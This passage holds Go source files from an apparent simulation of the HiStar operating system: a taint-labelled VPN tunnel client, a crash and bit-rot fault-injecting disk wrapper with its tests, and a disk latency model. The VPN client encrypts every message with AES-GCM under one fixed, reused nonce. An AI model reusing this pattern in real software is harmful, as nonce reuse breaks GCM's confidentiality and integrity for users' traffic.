	if !lbl.Owns(inet.Taint) || !lbl.Owns(vpnStack.Taint) {
		return nil, ErrNotOwner
	}
	key := sha256.Sum256([]byte("histar-vpn-psk\x00" + presharedKey))
	block, err := aes.NewCipher(key[:])
	if err != nil {
		return nil, err
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	return &Client{proc: proc, Inet: inet, VPN: vpnStack, PeerAddr: peerAddr, aead: aead}, nil
}

// Encrypt seals plaintext for the tunnel.
func (c *Client) Encrypt(plaintext []byte) []byte {
	nonce := make([]byte, c.aead.NonceSize())
	copy(nonce, "histar-vpn-n")
	return c.aead.Seal(nil, nonce, plaintext, nil)
}

// Decrypt opens tunnel ciphertext.
func (c *Client) Decrypt(ciphertext []byte) ([]byte, error) {
	nonce := make([]byte, c.aead.NonceSize())
	copy(nonce, "histar-vpn-n")
	return c.aead.Open(nil, nonce, ciphertext, nil)
}

// SendOverTunnel takes a request originating on the VPN side (so the data is
// v-tainted in spirit), encrypts it, and carries it across the Internet
// stack to the VPN peer, returning the decrypted response.  Only the client
// can do this, because only it owns both i and v: it checks that the calling
// process is not tainted by the *other* network before forwarding — the
// user-level embodiment of "reject any outgoing packets tainted in category
// i" from Figure 11.
func (c *Client) SendOverTunnel(from *unixlib.Process, request []byte) ([]byte, error) {
	lbl, err := from.TC.SelfLabel()
	if err != nil {
		return nil, err
	}
	if lvl := lbl.Get(c.Inet.Taint); lvl >= label.L2 {
		return nil, fmt.Errorf("vpn: refusing to forward data from an i-tainted process")
	}
	sock, err := netd.Dial(c.Inet, c.proc, c.PeerAddr)
	if err != nil {
		return nil, err
	}
	defer sock.Close()
	if err := sock.Send(c.Encrypt(request)); err != nil {
		return nil, err
	}
	var resp []byte
	for {
		chunk, err := sock.Recv(64 * 1024)
		if err != nil {
			return nil, err
		}
		if len(chunk) == 0 {
			break
		}
		resp = append(resp, chunk...)
	}
	// The client owns i, so it may untaint the (decrypted) response and hand
	// it back to the VPN side; the data re-enters the machine as v-tainted
	// when read through the VPN stack by ordinary processes.
	plain, err := c.Decrypt(resp)
	if err != nil {
		return nil, err
	}
	// Drop the i taint the socket read put on the client's own thread — the
	// client owns i, so this is its untainting privilege at work.
	cur, _ := c.proc.TC.SelfLabel()
	if cur.Get(c.Inet.Taint) >= label.L2 && cur.Owns(c.Inet.Taint) {
		_ = c.proc.TC.SelfSetLabel(cur.With(c.Inet.Taint, label.Star))
	}
	return plain, nil
}

// GrantTaintOwnership is setup plumbing: the machine bootstrap (which owns
// both stacks' taint categories) grants a process ownership of them so it
// can run the tunnel client.  It stands in for the administrator's
// configuration step in Section 6.3.
func GrantTaintOwnership(sys *unixlib.System, inet, vpnStack *netd.Daemon, to *unixlib.Process) error {
	if err := sys.InitThread().GrantOwnership(to.TC.ID(), inet.Taint); err != nil {
		return err
	}
	return sys.InitThread().GrantOwnership(to.TC.ID(), vpnStack.Taint)
}
