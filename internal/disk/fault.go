package disk

import (
	"errors"
	"fmt"
	"math/rand"
	"sync"
)

// Device is the block-device contract the single-level store and the
// write-ahead log are written against: positioned reads and writes, a
// durability barrier, and a fixed capacity.  *Disk implements it; FaultDisk
// wraps any Device to inject crashes, so the store's crash-consistency
// claims can be checked against every possible power-failure point instead
// of only the clean Crash() boundary.
type Device interface {
	ReadAt(p []byte, off int64) (int, error)
	WriteAt(p []byte, off int64) (int, error)
	Flush() error
	Size() int64
}

var _ Device = (*Disk)(nil)

// ErrFault is returned by a FaultDisk once its configured crash point has
// been reached: the simulated machine has lost power, and every subsequent
// operation fails until the underlying device is reopened.
var ErrFault = errors.New("disk: injected fault (simulated power failure)")

// FaultMode selects what happens to the write that straddles the crash
// point.
type FaultMode int

const (
	// FaultTorn writes the prefix of the straddling write up to the last
	// complete sector before the crash point, then fails.  Sectors are
	// atomic, as real drives guarantee; bytes within a sector are not split.
	FaultTorn FaultMode = iota
	// FaultOmit drops the straddling write entirely before failing — the
	// drive lost power before any of it reached the platter.
	FaultOmit
	// FaultFlip writes the same torn prefix as FaultTorn but corrupts one
	// byte of the final sector it wrote — the sector being written when
	// power died was garbled in flight.  Log checksums must catch this.
	FaultFlip
)

// String implements fmt.Stringer.
func (m FaultMode) String() string {
	switch m {
	case FaultTorn:
		return "torn"
	case FaultOmit:
		return "omit"
	case FaultFlip:
		return "flip"
	default:
		return "unknown"
	}
}

// FaultDisk wraps a Device and kills it after a configurable number of
// written bytes, modelling a power failure at an arbitrary point in the
// write stream.  With no fault armed it is a transparent pass-through that
// records the cumulative byte offset of every write, so a harness can first
// run a workload once to learn its crash points and then replay it with the
// fault armed at each of them.  FaultDisk is safe for concurrent use.
type FaultDisk struct {
	mu      sync.Mutex
	d       Device
	limit   int64 // cumulative written bytes allowed; <0 means no fault armed
	mode    FaultMode
	written int64
	tripped bool
	bounds  []int64 // cumulative written bytes after each WriteAt

	// flushLimit arms the destage-path fault: the nth Flush call (1-based)
	// trips the fault without reaching the inner device, so a volatile write
	// cache behind it never destages — the drive lost power before the
	// barrier completed.  0 means not armed.  flushes counts Flush calls.
	flushLimit int
	flushes    int

	// flipSeed makes FaultFlip's corruption deterministic and reproducible:
	// the flipped byte offset and XOR mask within the final written sector
	// are drawn from a PRNG seeded with it.  0 keeps the legacy behaviour
	// (last prefix byte XOR 0xff), which is itself deterministic.
	flipSeed int64

	// rot, when armed, models silent media decay: before every subsequent
	// read or write, rotBits bits inside rotRegion are flipped directly on
	// the inner device — no crash, no error, just damaged bytes waiting to
	// be noticed by whoever checks.  rotRNG keeps the damage deterministic.
	rot       bool
	rotRegion Region
	rotBits   int
	rotRNG    *rand.Rand
}

// Region designates a byte range [Off, Off+Len) of the device, used to aim
// bit-rot injection at a specific on-disk structure.
type Region struct {
	Off, Len int64
}

// NewFaultDisk wraps d with no fault armed (counting mode).
func NewFaultDisk(d Device) *FaultDisk {
	return &FaultDisk{d: d, limit: -1}
}

// Arm configures the crash point: the device fails once limit cumulative
// bytes have been written, handling the straddling write according to mode.
// Arming resets the written-byte counter and the trip state.
func (f *FaultDisk) Arm(limit int64, mode FaultMode) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.limit = limit
	f.mode = mode
	f.written = 0
	f.tripped = false
	f.bounds = nil
	f.flushLimit = 0
	f.flushes = 0
}

// ArmFlush configures a destage-path crash point: the nth Flush call
// (1-based) trips the fault and returns ErrFault without invoking the inner
// device's barrier, so anything the inner device holds in a volatile write
// cache is lost when the harness simulates the power-off (Disk.Crash).
// Together with Disk.FailFlushAfter this covers the group-commit destage
// scenarios: an omitted batch flush here, a partial one there.
func (f *FaultDisk) ArmFlush(nth int) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.limit = -1
	f.written = 0
	f.tripped = false
	f.bounds = nil
	f.flushLimit = nth
	f.flushes = 0
}

// SetFlipSeed fixes the PRNG seed that FaultFlip draws its corrupted byte
// offset and XOR mask from, so a bit-flip crash-test failure is reproducible
// from the seed recorded in the failure output.  Seed 0 restores the legacy
// deterministic behaviour (last prefix byte XOR 0xff).
func (f *FaultDisk) SetFlipSeed(seed int64) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.flipSeed = seed
}

// RotBits flips n bits at positions drawn deterministically from seed inside
// region, writing the damage straight through to the inner device.  It models
// a one-shot dose of silent bit rot between operations: no crash, no I/O
// error — the damaged bytes sit on the platter until something reads and
// verifies them.  The injection bypasses the fault byte counter so armed
// crash points are unaffected.
func (f *FaultDisk) RotBits(region Region, n int, seed int64) error {
	if region.Len <= 0 {
		return fmt.Errorf("disk: rot region must be non-empty")
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	rng := rand.New(rand.NewSource(seed))
	return rotBits(f.d, region, n, rng)
}

// ArmRot arms standing rot: before every subsequent ReadAt or WriteAt,
// bitsPerOp bits inside region are flipped (deterministically from seed) on
// the inner device.  Disarm with DisarmRot.
func (f *FaultDisk) ArmRot(region Region, bitsPerOp int, seed int64) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.rot = true
	f.rotRegion = region
	f.rotBits = bitsPerOp
	f.rotRNG = rand.New(rand.NewSource(seed))
}

// DisarmRot stops standing rot injection.
func (f *FaultDisk) DisarmRot() {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.rot = false
	f.rotRNG = nil
}

// rotBits flips n bits inside region on d via read-modify-write.  Caller
// holds f.mu (or owns d exclusively).  The damage is flushed to the platter
// immediately: rot is a media defect, and leaving the flipped bytes pending
// in the device's write cache would let them destage later, on top of
// whatever the host writes there next.
func rotBits(d Device, region Region, n int, rng *rand.Rand) error {
	var b [1]byte
	for i := 0; i < n; i++ {
		off := region.Off + rng.Int63n(region.Len)
		if _, err := d.ReadAt(b[:], off); err != nil {
			return err
		}
		b[0] ^= 1 << uint(rng.Intn(8))
		if _, err := d.WriteAt(b[:], off); err != nil {
			return err
		}
	}
	return d.Flush()
}

// maybeRot applies one dose of standing rot.  Caller holds f.mu.
func (f *FaultDisk) maybeRot() {
	if !f.rot || f.rotRegion.Len <= 0 {
		return
	}
	// Rot damage must not count toward the crash-point byte budget or the
	// write bounds, so it goes straight to the inner device.
	_ = rotBits(f.d, f.rotRegion, f.rotBits, f.rotRNG)
}

// Flushes returns how many Flush calls the device has seen since arming.
func (f *FaultDisk) Flushes() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.flushes
}

// Inner returns the wrapped device (used to reopen the disk image after the
// simulated power failure).
func (f *FaultDisk) Inner() Device { return f.d }

// Tripped reports whether the crash point has been reached.
func (f *FaultDisk) Tripped() bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.tripped
}

// BytesWritten returns the cumulative bytes written since the last Arm (or
// creation).
func (f *FaultDisk) BytesWritten() int64 {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.written
}

// WriteBounds returns the cumulative written-byte offset recorded after each
// completed WriteAt, in order.  A harness derives its crash points from
// these: faulting at bounds[i] kills the system just before write i+1, and
// any point strictly inside a write's span tears that write.
func (f *FaultDisk) WriteBounds() []int64 {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]int64(nil), f.bounds...)
}

// Size implements Device.
func (f *FaultDisk) Size() int64 { return f.d.Size() }

// ReadAt implements Device; after the fault has tripped the machine is off
// and reads fail too.
func (f *FaultDisk) ReadAt(p []byte, off int64) (int, error) {
	f.mu.Lock()
	dead := f.tripped
	if !dead {
		f.maybeRot()
	}
	f.mu.Unlock()
	if dead {
		return 0, ErrFault
	}
	return f.d.ReadAt(p, off)
}

// WriteAt implements Device.  A write that would cross the armed crash point
// is truncated to whole sectors (FaultTorn), dropped (FaultOmit), or torn
// with one corrupted byte in its final written sector (FaultFlip); the fault
// then trips and the write returns ErrFault.
func (f *FaultDisk) WriteAt(p []byte, off int64) (int, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.tripped {
		return 0, ErrFault
	}
	f.maybeRot()
	n := int64(len(p))
	if f.limit < 0 || f.written+n <= f.limit {
		m, err := f.d.WriteAt(p, off)
		if err == nil {
			f.written += n
			f.bounds = append(f.bounds, f.written)
		}
		return m, err
	}
	// This write straddles the crash point.
	f.tripped = true
	keep := f.limit - f.written
	// Sector atomicity: only whole sectors of the prefix reach the platter.
	if end := off + keep; end%SectorSize != 0 {
		keep = end - end%SectorSize - off
	}
	if f.mode == FaultOmit {
		keep = 0
	}
	if keep > 0 {
		prefix := p[:keep]
		if f.mode == FaultFlip {
			prefix = append([]byte(nil), prefix...)
			if f.flipSeed == 0 {
				prefix[keep-1] ^= 0xff // legacy: garble the last byte written
			} else {
				// Corrupt a seeded byte of the final sector that reached the
				// platter, with a seeded non-zero mask, so the exact damage is
				// reproducible from the seed a failing test logs.
				rng := rand.New(rand.NewSource(f.flipSeed))
				start := keep - SectorSize
				if start < 0 {
					start = 0
				}
				span := keep - start
				mask := byte(1 + rng.Intn(255))
				prefix[start+rng.Int63n(span)] ^= mask
			}
		}
		if _, err := f.d.WriteAt(prefix, off); err != nil {
			return 0, err
		}
		f.written += keep
	}
	return 0, ErrFault
}

// Flush implements Device; the barrier fails once the fault has tripped,
// and an armed destage fault trips here before reaching the inner device.
func (f *FaultDisk) Flush() error {
	f.mu.Lock()
	if f.tripped {
		f.mu.Unlock()
		return ErrFault
	}
	f.flushes++
	if f.flushLimit > 0 && f.flushes >= f.flushLimit {
		f.tripped = true
		f.mu.Unlock()
		return ErrFault
	}
	f.mu.Unlock()
	return f.d.Flush()
}
