package disk

import (
	"bytes"
	"errors"
	"testing"

	"histar/internal/vclock"
)

func testFaultDisk(t *testing.T) (*FaultDisk, *Disk) {
	t.Helper()
	d := New(Params{Sectors: 1 << 10}, &vclock.Clock{})
	return NewFaultDisk(d), d
}

func TestFaultDiskPassThrough(t *testing.T) {
	f, d := testFaultDisk(t)
	msg := []byte("pass through intact")
	if _, err := f.WriteAt(msg, 4096); err != nil {
		t.Fatal(err)
	}
	if err := f.Flush(); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, len(msg))
	if _, err := f.ReadAt(got, 4096); err != nil || !bytes.Equal(got, msg) {
		t.Fatalf("read back %q, %v", got, err)
	}
	if f.BytesWritten() != int64(len(msg)) {
		t.Errorf("BytesWritten = %d", f.BytesWritten())
	}
	if bounds := f.WriteBounds(); len(bounds) != 1 || bounds[0] != int64(len(msg)) {
		t.Errorf("WriteBounds = %v", bounds)
	}
	if f.Size() != d.Size() {
		t.Errorf("Size = %d, want %d", f.Size(), d.Size())
	}
}

func TestFaultDiskTornWriteKeepsWholeSectors(t *testing.T) {
	f, d := testFaultDisk(t)
	payload := bytes.Repeat([]byte{0xaa}, 4*SectorSize)
	f.Arm(3*SectorSize+100, FaultTorn) // crash 100 bytes into the 4th sector
	if _, err := f.WriteAt(payload, 0); !errors.Is(err, ErrFault) {
		t.Fatalf("straddling write: err=%v", err)
	}
	if !f.Tripped() {
		t.Fatal("fault should have tripped")
	}
	got := make([]byte, len(payload))
	if _, err := d.ReadAt(got, 0); err != nil {
		t.Fatal(err)
	}
	want := append(bytes.Repeat([]byte{0xaa}, 3*SectorSize), make([]byte, SectorSize)...)
	if !bytes.Equal(got, want) {
		t.Error("torn write should persist exactly three whole sectors")
	}
}

func TestFaultDiskOmitDropsWholeWrite(t *testing.T) {
	f, d := testFaultDisk(t)
	payload := bytes.Repeat([]byte{0xbb}, 2*SectorSize)
	f.Arm(SectorSize, FaultOmit)
	if _, err := f.WriteAt(payload, 0); !errors.Is(err, ErrFault) {
		t.Fatalf("err=%v", err)
	}
	got := make([]byte, len(payload))
	if _, err := d.ReadAt(got, 0); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, make([]byte, len(payload))) {
		t.Error("omitted write should leave no bytes behind")
	}
}

func TestFaultDiskFlipCorruptsFinalSector(t *testing.T) {
	f, d := testFaultDisk(t)
	payload := bytes.Repeat([]byte{0xcc}, 2*SectorSize)
	f.Arm(2*SectorSize-1, FaultFlip) // crash just before the write completes
	if _, err := f.WriteAt(payload, 0); !errors.Is(err, ErrFault) {
		t.Fatalf("err=%v", err)
	}
	got := make([]byte, 2*SectorSize)
	if _, err := d.ReadAt(got, 0); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got[:SectorSize-1], payload[:SectorSize-1]) {
		t.Error("intact prefix should persist")
	}
	if got[SectorSize-1] != 0xcc^0xff {
		t.Errorf("final written byte should be flipped, got %#x", got[SectorSize-1])
	}
	if !bytes.Equal(got[SectorSize:], make([]byte, SectorSize)) {
		t.Error("sector past the crash point should be untouched")
	}
}

func TestFaultDiskFlipSeededReproducible(t *testing.T) {
	// The same seed must produce byte-identical corruption, and the damage
	// must land inside the final written sector.
	run := func(seed int64) []byte {
		f, d := testFaultDisk(t)
		f.SetFlipSeed(seed)
		payload := bytes.Repeat([]byte{0xcc}, 2*SectorSize)
		f.Arm(2*SectorSize-1, FaultFlip)
		if _, err := f.WriteAt(payload, 0); !errors.Is(err, ErrFault) {
			t.Fatalf("err=%v", err)
		}
		got := make([]byte, 2*SectorSize)
		if _, err := d.ReadAt(got, 0); err != nil {
			t.Fatal(err)
		}
		return got
	}
	a, b := run(42), run(42)
	if !bytes.Equal(a, b) {
		t.Error("same seed should corrupt identically")
	}
	diff := 0
	for i := 0; i < SectorSize; i++ {
		if a[i] != 0xcc {
			diff++
		}
	}
	if diff != 1 {
		t.Errorf("seeded flip should corrupt exactly one byte of the final written sector, corrupted %d", diff)
	}
	if c := run(43); bytes.Equal(a, c) {
		t.Error("different seeds should corrupt differently")
	}
}

func TestRotBitsDeterministicAndContained(t *testing.T) {
	region := Region{Off: 4096, Len: 2048}
	run := func(seed int64) []byte {
		f, d := testFaultDisk(t)
		clean := bytes.Repeat([]byte{0x5a}, 8192)
		if _, err := d.WriteAt(clean, 0); err != nil {
			t.Fatal(err)
		}
		if err := f.RotBits(region, 5, seed); err != nil {
			t.Fatal(err)
		}
		got := make([]byte, 8192)
		if _, err := d.ReadAt(got, 0); err != nil {
			t.Fatal(err)
		}
		return got
	}
	a, b := run(7), run(7)
	if !bytes.Equal(a, b) {
		t.Error("same seed must rot identically")
	}
	flipped := 0
	for i, v := range a {
		if v != 0x5a {
			flipped++
			if int64(i) < region.Off || int64(i) >= region.Off+region.Len {
				t.Fatalf("rot escaped region: byte %d", i)
			}
		}
	}
	if flipped == 0 || flipped > 5 {
		t.Errorf("expected 1..5 damaged bytes, got %d", flipped)
	}
	// Rot must not count as workload writes: crash points stay stable.
	f, _ := testFaultDisk(t)
	if err := f.RotBits(region, 5, 7); err != nil {
		t.Fatal(err)
	}
	if f.BytesWritten() != 0 || len(f.WriteBounds()) != 0 {
		t.Error("rot injection must bypass write accounting")
	}
}

func TestArmRotDamagesBetweenOperations(t *testing.T) {
	f, d := testFaultDisk(t)
	clean := bytes.Repeat([]byte{0x33}, 4096)
	if _, err := d.WriteAt(clean, 0); err != nil {
		t.Fatal(err)
	}
	f.ArmRot(Region{Off: 0, Len: 4096}, 2, 99)
	// Each op takes a dose of rot first; reads and writes both count.
	buf := make([]byte, 64)
	if _, err := f.ReadAt(buf, 2048); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, 4096)
	if _, err := d.ReadAt(got, 0); err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(got, clean) {
		t.Error("standing rot should have damaged the region")
	}
	f.DisarmRot()
	if _, err := d.WriteAt(clean, 0); err != nil {
		t.Fatal(err)
	}
	if _, err := f.ReadAt(buf, 2048); err != nil {
		t.Fatal(err)
	}
	if _, err := d.ReadAt(got, 0); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, clean) {
		t.Error("disarmed rot should leave the region alone")
	}
}

func TestFaultDiskDeadAfterTrip(t *testing.T) {
	f, _ := testFaultDisk(t)
	f.Arm(0, FaultOmit)
	if _, err := f.WriteAt([]byte{1}, 0); !errors.Is(err, ErrFault) {
		t.Fatalf("err=%v", err)
	}
	if _, err := f.WriteAt([]byte{1}, 0); !errors.Is(err, ErrFault) {
		t.Error("writes after the fault should keep failing")
	}
	if _, err := f.ReadAt(make([]byte, 1), 0); !errors.Is(err, ErrFault) {
		t.Error("reads after the fault should fail")
	}
	if err := f.Flush(); !errors.Is(err, ErrFault) {
		t.Error("flushes after the fault should fail")
	}
}

func TestFaultDiskRearmResets(t *testing.T) {
	f, _ := testFaultDisk(t)
	f.Arm(0, FaultOmit)
	f.WriteAt([]byte{1}, 0)
	f.Arm(-1, FaultTorn) // disarm
	if _, err := f.WriteAt([]byte{1}, 0); err != nil {
		t.Fatalf("disarmed write: %v", err)
	}
	if f.Tripped() {
		t.Error("rearm should clear the trip state")
	}
}

func TestFaultDiskArmFlushTripsOnNthBarrier(t *testing.T) {
	f, _ := testFaultDisk(t)
	f.ArmFlush(2)
	if err := f.Flush(); err != nil {
		t.Fatalf("first flush: %v", err)
	}
	if err := f.Flush(); !errors.Is(err, ErrFault) {
		t.Fatalf("second flush should trip: %v", err)
	}
	if !f.Tripped() {
		t.Error("flush fault should trip the device")
	}
	if _, err := f.WriteAt([]byte{1}, 0); !errors.Is(err, ErrFault) {
		t.Error("writes after the flush fault should fail")
	}
	if f.Flushes() != 2 {
		t.Errorf("flushes = %d, want 2", f.Flushes())
	}
}

func TestPartialFlushDestagesPrefixOnly(t *testing.T) {
	d := New(Params{Sectors: 1 << 10, WriteCache: true}, &vclock.Clock{})
	a := bytes.Repeat([]byte{0xaa}, 2*SectorSize)
	b := bytes.Repeat([]byte{0xbb}, 2*SectorSize)
	if _, err := d.WriteAt(a, 0); err != nil {
		t.Fatal(err)
	}
	if _, err := d.WriteAt(b, 8*SectorSize); err != nil {
		t.Fatal(err)
	}
	boom := errors.New("boom")
	// Budget covers the first cached write and half the second: the second
	// is torn at a sector boundary and the remainder of the cache is lost.
	d.FailFlushAfter(2*SectorSize+SectorSize+100, boom)
	if err := d.Flush(); !errors.Is(err, boom) {
		t.Fatalf("partial flush should report the injected error: %v", err)
	}
	d.Crash()
	got := make([]byte, 2*SectorSize)
	if _, err := d.ReadAt(got, 0); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, a) {
		t.Error("first write should have destaged whole")
	}
	if _, err := d.ReadAt(got, 8*SectorSize); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got[:SectorSize], b[:SectorSize]) {
		t.Error("second write should have destaged its first sector")
	}
	if !bytes.Equal(got[SectorSize:], make([]byte, SectorSize)) {
		t.Error("second write's torn sector should be untouched")
	}
	// The arm is one-shot: a later flush destages normally.
	if _, err := d.WriteAt(a, 16*SectorSize); err != nil {
		t.Fatal(err)
	}
	if err := d.Flush(); err != nil {
		t.Fatalf("later flush: %v", err)
	}
}
