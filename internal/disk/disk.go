// Package disk simulates the rotating EIDE disk the paper's evaluation runs
// on (a Seagate ST340014A: 7,200 RPM, ~8.3 ms rotational latency, ~58 MB/s
// sustained bandwidth).  Reads and writes move data in an in-memory sector
// array and charge simulated time to a vclock.Clock, modelling seek and
// rotational latency for discontiguous accesses, pure transfer time for
// sequential ones, a volatile write cache, and firmware read look-ahead.
//
// The single-level store (package store), the write-ahead log (package wal),
// and the Linux-like baseline file system (package baseline) all run on this
// device, so the Figure 12 comparisons use the same latency model on both
// sides.
package disk

import (
	"errors"
	"fmt"
	"sort"
	"sync"
	"time"

	"histar/internal/vclock"
)

// SectorSize is the device's sector size in bytes.
const SectorSize = 512

// Params describes the latency model of the simulated disk.
type Params struct {
	// Sectors is the device capacity in sectors.
	Sectors int64
	// SeekTime is the average seek time charged for a discontiguous access.
	SeekTime time.Duration
	// RotationalLatency is the average rotational delay (half a revolution)
	// charged for a discontiguous access.
	RotationalLatency time.Duration
	// BandwidthBytesPerSec is the sustained media transfer rate.
	BandwidthBytesPerSec float64
	// WriteCache enables the volatile write cache: cached writes cost only
	// transfer time and become durable (and billed for positioning) at the
	// next Flush.
	WriteCache bool
	// ReadAhead enables firmware read look-ahead: after a read, the
	// following ReadAhead bytes are considered prefetched and a subsequent
	// read within that window costs only transfer time.  The paper's
	// uncached LFS small-file read phase is dominated by this effect.
	ReadAhead int64
}

// PaperDisk returns parameters modelled on the evaluation machines' Seagate
// ST340014A (Section 7): 8.3 ms average rotational latency, ~8.5 ms average
// seek, 58 MB/s media rate, 40 GB capacity.
func PaperDisk() Params {
	return Params{
		Sectors:              40 * 1000 * 1000 * 1000 / SectorSize,
		SeekTime:             8500 * time.Microsecond,
		RotationalLatency:    4150 * time.Microsecond, // half of 8.3 ms full rotation
		BandwidthBytesPerSec: 58 * 1000 * 1000,
		WriteCache:           false,
		ReadAhead:            256 * 1024,
	}
}

// Stats are cumulative operation counts and simulated time usage.
type Stats struct {
	Reads           uint64
	Writes          uint64
	Flushes         uint64
	BytesRead       uint64
	BytesWritten    uint64
	Seeks           uint64
	PrefetchHits    uint64
	SimulatedTime   time.Duration
	CacheFlushBytes uint64
}

// Disk is a simulated block device.  All methods are safe for concurrent
// use; operations are serialized, as on a single-spindle device.
type Disk struct {
	mu     sync.Mutex
	params Params
	clock  *vclock.Clock
	data   []byte

	headPos    int64 // byte offset the head is positioned after the last op
	prefetchLo int64 // [lo, hi) window considered prefetched
	prefetchHi int64
	dirty      map[int64][]byte // write-cache contents keyed by byte offset
	dirtyBytes int64
	stats      Stats

	// Fault injection for crash-consistency tests.
	failNextSync     error // next Flush fails before destaging anything
	partialFlushErr  error // next Flush destages only partialFlushLeft bytes
	partialFlushLeft int64
}

// ErrOutOfRange is returned for accesses beyond the device capacity.
var ErrOutOfRange = errors.New("disk: access beyond device capacity")

// New creates a simulated disk with the given parameters, charging simulated
// time to clock (which must not be nil).
func New(params Params, clock *vclock.Clock) *Disk {
	if clock == nil {
		panic("disk: nil clock")
	}
	if params.Sectors <= 0 {
		params.Sectors = 1 << 20
	}
	if params.BandwidthBytesPerSec <= 0 {
		params.BandwidthBytesPerSec = 50 * 1000 * 1000
	}
	return &Disk{
		params: params,
		clock:  clock,
		data:   make([]byte, params.Sectors*SectorSize),
		dirty:  make(map[int64][]byte),
	}
}

// Size returns the device capacity in bytes.
func (d *Disk) Size() int64 { return int64(len(d.data)) }

// Clock returns the simulated clock the disk charges time to.
func (d *Disk) Clock() *vclock.Clock { return d.clock }

// Stats returns a snapshot of the cumulative statistics.
func (d *Disk) Stats() Stats {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.stats
}

// ResetStats zeroes the statistics (not the simulated clock).
func (d *Disk) ResetStats() {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.stats = Stats{}
}

// transferTime returns the media transfer time for n bytes.
func (d *Disk) transferTime(n int64) time.Duration {
	sec := float64(n) / d.params.BandwidthBytesPerSec
	return time.Duration(sec * float64(time.Second))
}

// skipThreshold is the largest forward gap from the current head position
// that is treated as "streaming past" rather than a full seek: the head stays
// on (or near) the same track and simply waits for the platter, so the cost
// is the media transfer time of the skipped span.
const skipThreshold = 2 << 20

// position charges positioning cost for an access at off, honouring
// sequentiality, short forward skips, and the prefetch window for reads.
func (d *Disk) position(off int64, n int64, isRead bool) {
	if off == d.headPos {
		return // sequential: no positioning cost
	}
	if isRead && d.params.ReadAhead > 0 && off >= d.prefetchLo && off+n <= d.prefetchHi {
		d.stats.PrefetchHits++
		return // satisfied from the drive's look-ahead buffer
	}
	if gap := off - d.headPos; gap > 0 && gap <= skipThreshold {
		d.charge(d.transferTime(gap))
		return
	}
	d.stats.Seeks++
	d.charge(d.params.SeekTime + d.params.RotationalLatency)
}

func (d *Disk) charge(t time.Duration) {
	d.stats.SimulatedTime += t
	d.clock.Advance(t)
}

// ReadAt reads len(p) bytes at byte offset off.
func (d *Disk) ReadAt(p []byte, off int64) (int, error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	n := int64(len(p))
	if off < 0 || off+n > int64(len(d.data)) {
		return 0, fmt.Errorf("%w: off=%d len=%d", ErrOutOfRange, off, n)
	}
	d.position(off, n, true)
	d.charge(d.transferTime(n))
	copy(p, d.data[off:off+n])
	// Serve cached (not yet flushed) writes so readers see latest data.
	for woff, wdata := range d.dirty {
		overlayCopy(p, off, wdata, woff)
	}
	d.headPos = off + n
	if d.params.ReadAhead > 0 {
		d.prefetchLo = off
		d.prefetchHi = off + n + d.params.ReadAhead
	}
	d.stats.Reads++
	d.stats.BytesRead += uint64(n)
	return int(n), nil
}

// overlayCopy copies the overlap of src (at absolute offset srcOff) onto dst
// (at absolute offset dstOff).
func overlayCopy(dst []byte, dstOff int64, src []byte, srcOff int64) {
	lo := max64(dstOff, srcOff)
	hi := min64(dstOff+int64(len(dst)), srcOff+int64(len(src)))
	if lo >= hi {
		return
	}
	copy(dst[lo-dstOff:hi-dstOff], src[lo-srcOff:hi-srcOff])
}

func max64(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}

func min64(a, b int64) int64 {
	if a < b {
		return a
	}
	return b
}

// WriteAt writes len(p) bytes at byte offset off.  With the write cache
// enabled the data lands in the cache and costs only transfer time; it
// becomes durable at the next Flush.
func (d *Disk) WriteAt(p []byte, off int64) (int, error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	n := int64(len(p))
	if off < 0 || off+n > int64(len(d.data)) {
		return 0, fmt.Errorf("%w: off=%d len=%d", ErrOutOfRange, off, n)
	}
	d.stats.Writes++
	d.stats.BytesWritten += uint64(n)
	if d.params.WriteCache {
		d.dirty[off] = append([]byte(nil), p...)
		d.dirtyBytes += n
		d.charge(d.transferTime(n))
		return int(n), nil
	}
	d.position(off, n, false)
	d.charge(d.transferTime(n))
	copy(d.data[off:], p)
	d.headPos = off + n
	d.invalidatePrefetch(off, n)
	return int(n), nil
}

func (d *Disk) invalidatePrefetch(off, n int64) {
	if off < d.prefetchHi && off+n > d.prefetchLo {
		d.prefetchLo, d.prefetchHi = 0, 0
	}
}

// Flush makes all cached writes durable, charging positioning costs for each
// discontiguous run.  It is a no-op when the write cache is disabled or
// empty.
func (d *Disk) Flush() error {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.stats.Flushes++
	if err := d.failNextSync; err != nil {
		d.failNextSync = nil
		return err
	}
	partial, budget := error(nil), int64(-1)
	if d.partialFlushErr != nil {
		partial, budget = d.partialFlushErr, d.partialFlushLeft
		d.partialFlushErr, d.partialFlushLeft = nil, 0
	}
	if len(d.dirty) == 0 {
		return partial
	}
	// Destage in ascending offset order, as a real drive's cache scheduler
	// would, so contiguous runs cost transfer time rather than seeks.
	offsets := make([]int64, 0, len(d.dirty))
	for off := range d.dirty {
		offsets = append(offsets, off)
	}
	sort.Slice(offsets, func(i, j int) bool { return offsets[i] < offsets[j] })
	for _, off := range offsets {
		data := d.dirty[off]
		if budget >= 0 {
			// Power died mid-destage: only whole sectors within the byte
			// budget reach the platter; the rest of the cache is lost.
			if budget < int64(len(data)) {
				keep := budget
